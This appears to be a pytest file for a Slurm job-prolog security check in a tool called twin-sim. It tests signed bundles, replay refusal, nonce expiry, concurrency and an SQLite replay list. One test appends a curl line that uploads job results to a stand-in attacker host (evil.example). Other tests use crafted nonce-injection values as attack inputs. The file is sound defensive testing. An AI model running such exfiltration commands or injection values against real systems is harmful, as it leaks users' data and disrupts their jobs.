"""`twin-sim secure prolog` as slurmd runs it: Slurm's variables in the
environment, the spooled script and bundle given explicitly (no Slurm here;
the scontrol path is exercised only on a real Slurm)."""

import datetime
import json
import os
import secrets
import shutil
import sqlite3
import stat
import subprocess
from pathlib import Path

import pytest

from conftest import run

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None,
                                reason="needs openssh-client (scripts/setup)")


@pytest.fixture
def site(twin_sim, repo_root, tmp_path):
    key = tmp_path / "id_ed25519"
    assert run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)]).returncode == 0
    public = (tmp_path / "id_ed25519.pub").read_text()
    signers = tmp_path / "allowed_signers"
    signers.write_text(f'alice namespaces="twin-sim" {public}')
    recipient = run([twin_sim, "secure", "keygen", "-o", str(tmp_path / "user.txt")]).stdout
    job = tmp_path / "job1"
    result = run([twin_sim, "secure", "pack", str(repo_root / "scenarios" / "quickstart.yaml"),
                  "-o", str(job), "-r", recipient.strip(), "--sign-key", str(key)])
    assert result.returncode == 0, result.stderr
    spooled = tmp_path / "spooled.sh"
    shutil.copy(job / "job.sbatch", spooled)
    node = tmp_path / "node-local"
    node.mkdir()
    return {"job": job, "signers": signers, "spooled": spooled, "tmp": tmp_path, "node": node,
            "records": tmp_path / "records"}


def prolog(twin_sim, site, user="alice", partition="secure", job_id="7"):
    env = dict(os.environ, SLURM_JOB_ID=job_id, SLURM_JOB_USER=user,
               SLURM_JOB_PARTITION=partition)
    return run([twin_sim, "secure", "prolog", "--allowed-signers", str(site["signers"]),
                "--replay-list", str(site["tmp"] / "nonces"), "--log", str(site["tmp"] / "log"),
                "--job-script", str(site["spooled"]), "--bundle", str(site["job"]),
                "--node-tmp", str(site["node"]), "--job-records", str(site["records"])], env=env)


def log_lines(site):
    return [json.loads(line) for line in (site["tmp"] / "log").read_text().splitlines()]


def test_signed_job_runs_once_and_its_replay_is_refused(twin_sim, site):
    first = prolog(twin_sim, site)
    assert first.returncode == 0, first.stderr
    second = prolog(twin_sim, site, job_id="8")
    assert second.returncode == 1
    assert "used before (replayed bundle)" in second.stderr
    verdicts = [(entry["job_id"], entry["verdict"]) for entry in log_lines(site)]
    assert verdicts == [("7", "accepted"), ("8", "refused")]
    assert "replayed" in log_lines(site)[1]["reason"]
    # The accepted job got its private node-local folder and a root-only record;
    # the refused one got nothing.
    folder = site["node"] / "twin-sim-job-7"
    assert folder.is_dir() and (folder.stat().st_mode & 0o777) == 0o700
    assert folder.stat().st_uid == os.getuid()
    assert f"TWIN_SIM_BIN='{os.path.realpath(twin_sim)}'" in (folder / "site.env").read_text()
    record = json.loads((site["records"] / "7.json").read_text())
    manifest = json.loads((site["job"] / "manifest.json").read_text())
    assert record["job_nonce"] == manifest["job_nonce"]
    assert record["bundle"] == str(site["job"])
    assert (site["records"].stat().st_mode & 0o777) == 0o700
    assert not (site["node"] / "twin-sim-job-8").exists()


def test_script_edited_after_signing_is_refused_and_logged(twin_sim, site):
    with open(site["spooled"], "a") as script:
        script.write("curl -T \"$work/run/results.h5\" https://evil.example\n")
    result = prolog(twin_sim, site)
    assert result.returncode == 1
    entry = log_lines(site)[0]
    assert entry["verdict"] == "refused"
    assert entry["reason"] == "the job script Slurm spooled differs from the signed batch script"
    assert not (site["tmp"] / "nonces").exists() or (site["tmp"] / "nonces").read_text() == ""


def test_job_of_another_user_is_refused(twin_sim, site):
    result = prolog(twin_sim, site, user="root")
    assert result.returncode == 1 and "signer not allowed" in result.stderr


def test_other_partitions_pass_without_checks(twin_sim, site):
    result = prolog(twin_sim, site, partition="batch")
    assert result.returncode == 0
    assert not (site["tmp"] / "log").exists()


def test_missing_slurm_environment_is_a_configuration_error(twin_sim, site):
    env = {key: value for key, value in os.environ.items() if not key.startswith("SLURM_")}
    result = run([twin_sim, "secure", "prolog", "--allowed-signers", str(site["signers"]),
                  "--replay-list", "x", "--log", "y"], env=env)
    assert result.returncode == 2


def test_installed_prolog_script_fails_closed_without_slurm(twin_sim, repo_root, site):
    # scripts/slurm/secure-prolog asks scontrol for the job; with scontrol out of
    # PATH the question fails, and the job must be refused (fail closed).
    env = dict(os.environ, SLURM_JOB_ID="9", SLURM_JOB_USER="alice", SLURM_JOB_PARTITION="secure",
               TWIN_SIM_BIN=twin_sim, TWIN_SIM_ALLOWED_SIGNERS=str(site["signers"]),
               TWIN_SIM_REPLAY_LIST=str(site["tmp"] / "nonces"),
               TWIN_SIM_PROLOG_LOG=str(site["tmp"] / "log"),
               TWIN_SIM_NODE_TMP=str(site["node"]), TWIN_SIM_JOB_RECORDS=str(site["records"]),
               PATH=str(site["tmp"]))
    script = str(repo_root / "scripts" / "slurm" / "secure-prolog")
    result = run([script], env=env)
    assert result.returncode == 1
    assert log_lines(site)[0]["verdict"] == "refused"
    assert "scontrol" in log_lines(site)[0]["reason"]
    env["SLURM_JOB_PARTITION"] = "batch"
    assert run([script], env=env).returncode == 0


# --- Attacks on the job nonce, the replay list and the expiry ------------------
# The attack inputs are in Tests/fixtures/secure/bundle-attacks.json (shared
# with Tests/TwinSecureTests/BundleAttackTests.swift).


ATTACKS = json.loads((Path(__file__).resolve().parents[1] / "fixtures" / "secure" /
                      "bundle-attacks.json").read_text())


def fresh_nonce():
    return secrets.token_hex(32)


def timestamp(value, now):
    """A fixture time: an offset in seconds from `now`, or a text as it is."""
    if isinstance(value, str):
        return value
    moment = now + datetime.timedelta(seconds=value)
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def resign(job, key, **changes):
    """Edits manifest.json of the bundle `job` and signs it again with `key`,
    as an allowed signer who crafts a manifest by hand would."""
    manifest = job / "manifest.json"
    data = json.loads(manifest.read_text())
    data.update(changes)
    manifest.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    os.unlink(str(manifest) + ".sig")
    assert run(["ssh-keygen", "-q", "-Y", "sign", "-f", str(key), "-n", "twin-sim",
                str(manifest)]).returncode == 0


@pytest.fixture
def users(twin_sim, repo_root, tmp_path):
    """Two users of the secure partition, alice and bob, each with a signing key
    in the site's allowed signers and a bundle packed by `pack`; one node."""
    lines = []
    people = {}
    for name in ("alice", "bob"):
        key = tmp_path / f"id_{name}"
        assert run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name,
                    "-f", str(key)]).returncode == 0
        lines.append(f'{name} namespaces="twin-sim" {(tmp_path / f"id_{name}.pub").read_text()}')
        people[name] = {"key": key}
    signers = tmp_path / "allowed_signers"
    signers.write_text("".join(lines))
    recipient = run([twin_sim, "secure", "keygen", "-o", str(tmp_path / "user.txt")]).stdout
    for name, person in people.items():
        person["pack"] = lambda folder, name=name: pack(
            twin_sim, repo_root, tmp_path / folder, recipient.strip(), people[name]["key"])
        person["job"] = person["pack"](f"job-{name}")
    node = tmp_path / "node-local"
    node.mkdir()
    return {"people": people, "signers": signers, "tmp": tmp_path, "node": node,
            "records": tmp_path / "records", "replay": tmp_path / "nonces"}


def pack(twin_sim, repo_root, folder, recipient, key):
    result = run([twin_sim, "secure", "pack", str(repo_root / "scenarios" / "quickstart.yaml"),
                  "-o", str(folder), "-r", recipient, "--sign-key", str(key)])
    assert result.returncode == 0, result.stderr
    return folder


def prolog_command(twin_sim, users, job, user, job_id):
    env = dict(os.environ, SLURM_JOB_ID=job_id, SLURM_JOB_USER=user,
               SLURM_JOB_PARTITION="secure")
    command = [twin_sim, "secure", "prolog", "--allowed-signers", str(users["signers"]),
               "--replay-list", str(users["replay"]), "--log", str(users["tmp"] / "log"),
               "--job-script", str(job / "job.sbatch"), "--bundle", str(job),
               "--node-tmp", str(users["node"]), "--job-records", str(users["records"])]
    return command, env


def prolog_as(twin_sim, users, job, user, job_id):
    command, env = prolog_command(twin_sim, users, job, user, job_id)
    return run(command, env=env)


def nonce_of(job):
    return json.loads((job / "manifest.json").read_text())["job_nonce"]


@pytest.mark.parametrize("case", ATTACKS["malformed_nonces"], ids=lambda case: case["why"])
def test_malformed_nonce_is_refused_by_verify_and_the_prolog(twin_sim, users, case):
    alice = users["people"]["alice"]
    nonce = case["nonce"].replace("{v}", fresh_nonce())
    resign(alice["job"], alice["key"], job_nonce=nonce)
    checked = run([twin_sim, "secure", "verify", str(alice["job"]),
                   "--allowed-signers", str(users["signers"])])
    assert checked.returncode == 1, checked.stdout
    assert "job_nonce" in checked.stderr and "64 lowercase hexadecimal digits" in checked.stderr
    refused = prolog_as(twin_sim, users, alice["job"], "alice", "7")
    assert refused.returncode == 1
    entry = log_lines({"tmp": users["tmp"]})[-1]
    assert entry["verdict"] == "refused" and "job_nonce" in entry["reason"]
    # Nothing was recorded, no folder prepared.
    assert not users["replay"].exists()
    assert os.listdir(users["node"]) == []


def test_nonce_injection_cannot_block_another_users_bundle(twin_sim, users):
    # Alice (an allowed signer) learns bob's nonce V (it is in his job's comment
    # and script) and signs a bundle of her own whose nonce is "q\n" + V. Her
    # job must be refused, and bob's genuine bundle must still run: before,
    # her job was accepted and wrote the line "V 7" into the replay list, so
    # bob's job was refused as a replay and his node drained.
    alice, bob = users["people"]["alice"], users["people"]["bob"]
    victim = nonce_of(bob["job"])
    resign(alice["job"], alice["key"], job_nonce="q\n" + victim)
    attack = prolog_as(twin_sim, users, alice["job"], "alice", "7")
    assert attack.returncode == 1
    genuine = prolog_as(twin_sim, users, bob["job"], "bob", "8")
    assert genuine.returncode == 0, genuine.stderr
    assert [(e["job_id"], e["verdict"]) for e in log_lines({"tmp": users["tmp"]})] == [
        ("7", "refused"), ("8", "accepted")]


def test_a_copied_well_formed_nonce_blocks_only_its_signer(twin_sim, users):
    # Alice copies bob's nonce V exactly into her own signed manifest: a valid
    # form, so her job runs (once); records are kept per signing key, so bob's
    # bundle with V still runs, and each replay is refused.
    alice, bob = users["people"]["alice"], users["people"]["bob"]
    victim = nonce_of(bob["job"])
    resign(alice["job"], alice["key"], job_nonce=victim)
    assert prolog_as(twin_sim, users, alice["job"], "alice", "7").returncode == 0
    genuine = prolog_as(twin_sim, users, bob["job"], "bob", "8")
    assert genuine.returncode == 0, genuine.stderr
    for job, user, job_id in ((alice["job"], "alice", "9"), (bob["job"], "bob", "10")):
        replay = prolog_as(twin_sim, users, job, user, job_id)
        assert replay.returncode == 1 and "replayed bundle" in replay.stderr


@pytest.mark.parametrize("case", ATTACKS["expiry"], ids=lambda case: case["why"])
def test_expiry_is_bounded_as_pack_bounds_it(twin_sim, users, case):
    alice = users["people"]["alice"]
    now = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
    resign(alice["job"], alice["key"], created=timestamp(case["created"], now),
           expires=timestamp(case["expires"], now))
    checked = run([twin_sim, "secure", "verify", str(alice["job"]),
                   "--allowed-signers", str(users["signers"])])
    result = prolog_as(twin_sim, users, alice["job"], "alice", "7")
    if case["accepted"]:
        assert checked.returncode == 0, checked.stderr
        assert result.returncode == 0, result.stderr
    else:
        assert checked.returncode == 1, checked.stdout
        assert result.returncode == 1
        assert log_lines({"tmp": users["tmp"]})[-1]["verdict"] == "refused"


def test_pack_refuses_a_lifetime_beyond_the_cap(twin_sim, repo_root, users):
    alice = users["people"]["alice"]
    recipient = (users["tmp"] / "user.txt").read_text().split("public key: ")[1].split()[0]
    for hours, status in (("8760", 0), ("8760.001", 2), ("0.5", 2)):
        result = run([twin_sim, "secure", "pack", str(repo_root / "scenarios" / "quickstart.yaml"),
                      "-o", str(users["tmp"] / f"job-{hours}"), "-r", recipient,
                      "--sign-key", str(alice["key"]), "--expires-in-hours", hours])
        assert result.returncode == status, result.stderr


def start_prologs(twin_sim, users, jobs):
    """Starts one prolog per (bundle, user, job id) at once and waits for all."""
    processes = []
    for job, user, job_id in jobs:
        command, env = prolog_command(twin_sim, users, job, user, job_id)
        processes.append(subprocess.Popen(command, env=env, stdout=subprocess.PIPE,
                                          stderr=subprocess.PIPE, text=True))
    return [(process.wait(timeout=120), process.communicate()[1]) for process in processes]


def test_concurrent_prologs_accept_a_bundle_once(twin_sim, users):
    # The same bundle submitted as four jobs whose prologs run at the same time
    # (e.g. on a site that shares the replay list between prologs): exactly one
    # is accepted, whatever the order in which they reach the replay list.
    bob = users["people"]["bob"]
    results = start_prologs(twin_sim, users, [(bob["job"], "bob", str(20 + i)) for i in range(4)])
    assert sorted(status for status, _ in results) == [0, 1, 1, 1], results
    assert all("replayed bundle" in error for status, error in results if status == 1)


def test_concurrent_prologs_record_every_bundle(twin_sim, users):
    # Two prologs writing the replay list at once lose no record: four distinct
    # bundles (two of each user) all run, and each is then refused as a replay.
    alice, bob = users["people"]["alice"], users["people"]["bob"]
    jobs = [(alice["job"], "alice", "30"), (bob["job"], "bob", "31"),
            (alice["pack"]("job-alice-2"), "alice", "32"), (bob["pack"]("job-bob-2"), "bob", "33")]
    results = start_prologs(twin_sim, users, jobs)
    assert [status for status, _ in results] == [0, 0, 0, 0], results
    replays = start_prologs(twin_sim, users, [(job, user, str(int(job_id) + 10))
                                              for job, user, job_id in jobs])
    assert [status for status, _ in replays] == [1, 1, 1, 1], replays
    assert all("replayed bundle" in error for _, error in replays)


def test_replay_list_is_a_keyed_store_no_field_can_forge(twin_sim, users):
    # The replay list is an SQLite database: one row per accepted bundle, keyed
    # by the signing key and the nonce, every field a bound value, checked by
    # the table's constraints.
    bob = users["people"]["bob"]
    assert prolog_as(twin_sim, users, bob["job"], "bob", "40").returncode == 0
    assert stat.S_IMODE(users["replay"].stat().st_mode) == 0o600
    with sqlite3.connect(users["replay"]) as database:
        assert database.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        rows = database.execute(
            "SELECT signer, job_nonce, user, job_id FROM accepted_job").fetchall()
        assert len(rows) == 1
        signer, nonce, user, job_id = rows[0]
        assert (nonce, user, job_id) == (nonce_of(bob["job"]), "bob", "40")
        fingerprint = run(["ssh-keygen", "-l", "-f", str(bob["key"]) + ".pub"]).stdout.split()[1]
        assert signer == fingerprint
        with pytest.raises(sqlite3.IntegrityError):
            database.execute("INSERT INTO accepted_job VALUES (?, ?, ?, ?, ?, ?)",
                             (signer, "q\n" + nonce, "bob", "41", "x", "y"))


def test_an_old_line_format_replay_list_is_imported_and_still_refuses(twin_sim, users):
    # A replay list written by an earlier twin-sim ("NONCE JOBID" lines, under
    # flock) is turned into the database at its first use; its nonces stay
    # refused for everyone, lines that are not nonces are dropped, and the old
    # file is kept beside it.
    alice, bob = users["people"]["alice"], users["people"]["bob"]
    old = f"{nonce_of(bob['job'])} 3\nq\n../../etc/x 4\n"
    users["replay"].write_text(old)
    os.chmod(users["replay"], 0o600)
    refused = prolog_as(twin_sim, users, bob["job"], "bob", "50")
    assert refused.returncode == 1 and "replayed bundle" in refused.stderr
    assert prolog_as(twin_sim, users, alice["job"], "alice", "51").returncode == 0
    kept = [name for name in os.listdir(users["tmp"]) if name.startswith("nonces.legacy-")]
    assert len(kept) == 1 and (users["tmp"] / kept[0]).read_text() == old
    with sqlite3.connect(users["replay"]) as database:
        assert database.execute("SELECT job_nonce, job_id FROM legacy_job_nonce").fetchall() == [
            (nonce_of(bob["job"]), "3")]


def test_a_replay_list_of_a_newer_schema_or_not_a_database_fails_closed(twin_sim, users):
    bob = users["people"]["bob"]
    with sqlite3.connect(users["replay"]) as database:
        database.execute("PRAGMA user_version = 2")
    result = prolog_as(twin_sim, users, bob["job"], "bob", "60")
    assert result.returncode == 1 and "written by a newer twin-sim" in result.stderr
    users["replay"].unlink()
    users["replay"].write_bytes(b"\x00\x01binary")
    result = prolog_as(twin_sim, users, bob["job"], "bob", "61")
    assert result.returncode == 1 and "neither an SQLite database nor text" in result.stderr
